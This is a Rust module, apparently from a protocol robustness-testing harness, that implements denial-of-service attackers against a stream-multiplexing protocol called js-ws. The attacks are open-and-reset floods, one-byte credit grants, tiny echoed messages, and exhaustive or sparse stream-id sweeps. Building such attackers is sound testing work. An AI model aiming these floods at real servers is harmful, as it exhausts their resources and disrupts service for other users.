//! Attackers that speak js-ws. On that wire each message belongs to one stream, and the limit on
//! streams is not advertised.

use std::convert::Infallible;

use anyhow::Result;

use super::{
    Attack,
    raw::{Raw, WINDOW, varints},
};

/// How many streams are open at the same time, far fewer than the victim permits.
const AT_ONCE: u64 = 50;
/// The distance between the ids of `sparse_ids`. With this distance the ids reach up to 2^60, which
/// is half of all valid ids. The low 40 bits of all these ids are the same.
const SPARSE: u64 = 1 << 40;
/// The highest id that an attack uses. Ids below 2^61 are valid.
const HIGH: u64 = 1 << 60;
/// The credit that is granted on each stream, which is more than is ever used.
const CREDIT: u32 = WINDOW as u32;

const READ: u8 = 0;
const WRITE: u8 = 1;

/// Returns a message as SPEC.md §7.1 defines it.
fn message(id: u64, kind: u8, payload: &[u8]) -> Vec<u8> {
    let mut message = Vec::with_capacity(payload.len() + 10);
    varints(&mut message, &[id]);
    message.extend([0, kind]);
    message.extend_from_slice(payload);
    message
}

fn data(id: u64, data: &[u8]) -> Vec<u8> {
    message(id, 0, data)
}

fn ack(id: u64, credit: u32) -> Vec<u8> {
    message(id, 1, &credit.to_be_bytes())
}

fn error(id: u64, half: u8) -> Vec<u8> {
    message(id, 2, &[half, 7])
}

fn close(id: u64, half: u8) -> Vec<u8> {
    message(id, 3, &[half])
}

pub async fn at_full_speed(attack: Attack, raw: &mut Raw) -> Result<Infallible> {
    match attack {
        Attack::JswsOpenReset => open_reset(raw).await,
        Attack::JswsTinyMessages => tiny_messages(raw).await,
        Attack::JswsOneByteGrants => {
            raw.send(ack(0, 1)).await?;
            same(raw, &ack(0, 1)).await
        }
        Attack::JswsWaiting => {
            for id in (0..).step_by(2) {
                raw.send(ack(id, CREDIT)).await?;
            }
            unreachable!("64 bits of ids")
        }
        Attack::JswsSparseIds => sparse_ids(raw).await,
        Attack::JswsDescendingIds => {
            for id in (0..=HIGH).rev().step_by(2) {
                raw.send(ack(id, CREDIT)).await?;
            }
            unreachable!("60 bits of ids")
        }
        _ => unreachable!("it speaks QMux, or nothing"),
    }
}

async fn same(raw: &mut Raw, message: &[u8]) -> Result<Infallible> {
    let message = bytes::Bytes::copy_from_slice(message);
    loop {
        raw.send(message.clone()).await?;
    }
}

/// Opens streams, and resets and stops each of them at once.
async fn open_reset(raw: &mut Raw) -> Result<Infallible> {
    for id in (0..).step_by(2) {
        raw.send(ack(id, CREDIT)).await?;
        raw.send(error(id, READ)).await?;
        raw.send(error(id, WRITE)).await?;
    }
    unreachable!("64 bits of ids")
}

/// Sends single bytes to be echoed, and grants credit for one more byte each time.
async fn tiny_messages(raw: &mut Raw) -> Result<Infallible> {
    raw.send(ack(0, 1)).await?;
    for sent in 0.. {
        raw.until(|granted| granted.first > sent).await?;
        raw.send(data(0, b"x")).await?;
        raw.send(ack(0, 1)).await?;
    }
    unreachable!("64 bits of bytes")
}

/// Makes whole calls of one byte each, on streams whose ids are far from each other.
async fn sparse_ids(raw: &mut Raw) -> Result<Infallible> {
    // When the ids are used up, this fails, and the attack continues on a new connection.
    for first in (0..HIGH / SPARSE).step_by(AT_ONCE as usize) {
        let ids = || (first..first + AT_ONCE).map(|nth| nth * SPARSE);
        for id in ids() {
            raw.send(ack(id, CREDIT)).await?;
        }
        raw.until(|granted| granted.acks >= first + AT_ONCE).await?;
        for id in ids() {
            raw.send(data(id, b"x")).await?;
            raw.send(close(id, READ)).await?;
        }
        raw.until(|granted| granted.ends >= first + AT_ONCE).await?;
        for id in ids() {
            raw.send(close(id, WRITE)).await?;
        }
    }
    anyhow::bail!("no more ids")
}
